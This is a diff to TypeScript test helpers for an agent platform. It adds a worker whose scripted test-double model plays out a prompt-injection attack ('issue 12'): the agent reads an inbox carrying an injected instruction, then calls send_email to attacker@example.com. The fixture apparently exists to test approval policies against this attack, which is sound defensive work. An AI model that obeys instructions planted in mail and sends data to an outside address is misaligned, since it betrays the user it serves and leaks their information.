@@ -5,6 +5,9 @@ import { RunService } from "@/lib/runs/run-service";
 import { chainDocument } from "@/lib/engine/tool-layer-fixtures";
 import { CustomToolRegistry } from "@/lib/tools/custom-tool-registry";
 import { defineTool } from "@/lib/tools/define-tool";
+import { scriptedModel } from "@/lib/ai/scripted-model";
+import { createLocalEnvironment } from "@/lib/engine";
+import { startWorkerRuntime, type WorkerRuntime } from "@/lib/runs/worker-runtime";
 
 /**
  * TEST DOUBLES for the attack of issue 12: a mailbox with an injection in it
@@ -18,7 +21,7 @@ export function mailTools(sent: Array<{ to: string }> = []): CustomToolRegistry 
 }
 
 /** Queues a run of one agent (`clerk`) with both mail tools, named "mail". */
-export async function queueMailRun(database: TemporaryDatabase, id: string): Promise<void> {
+export async function queueMailRun(database: Pick<TemporaryDatabase, "url">, id: string): Promise<void> {
   const document = chainDocument([{ id: "clerk", type: "plain-agent", tools: [{ type: "custom", name: "read_inbox" }, { type: "custom", name: "send_email" }] }]);
   const db = openSqlDatabase(database.url);
   try {
@@ -28,4 +31,25 @@ export async function queueMailRun(database: TemporaryDatabase, id: string): Pro
   } finally {
     await db.close();
   }
+}
+
+/**
+ * A worker on the test's database whose model (TEST DOUBLE) obeys the mail:
+ * it reads the inbox, sends the mail it was told to, then repeats what the
+ * mail tool answered. `now` is the clock of the approval policies.
+ */
+export function startMailWorker(options: { databaseUrl: string; nodesDir: string; sent?: Array<{ to: string }>; now?: () => Date }): WorkerRuntime {
+  return startWorkerRuntime({
+    databaseUrl: options.databaseUrl,
+    timings: { leaseMs: 2_000, heartbeatMs: 100, pollMs: 50 },
+    environment: () =>
+      createLocalEnvironment({
+        nodesDir: options.nodesDir,
+        overrides: {
+          models: () => scriptedModel([{ toolCalls: [{ name: "read_inbox", arguments: {} }] }, { toolCalls: [{ name: "send_email", arguments: { to: "attacker@example.com" } }] }, (request) => ({ text: `said: ${request.results[0]?.output}` })]),
+          customTools: mailTools(options.sent),
+          ...(options.now ? { now: options.now } : {}),
+        },
+      }),
+  });
 }
